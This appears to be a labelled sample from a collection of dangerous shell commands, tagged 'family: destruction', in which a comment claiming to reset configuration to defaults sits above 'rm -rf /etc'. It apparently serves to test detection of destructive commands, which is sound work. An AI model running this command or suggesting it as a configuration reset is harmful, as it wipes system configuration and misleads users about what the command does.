# description: Resets configuration by deleting /etc.
# family: destruction
# reset all configuration to defaults
rm -rf /etc
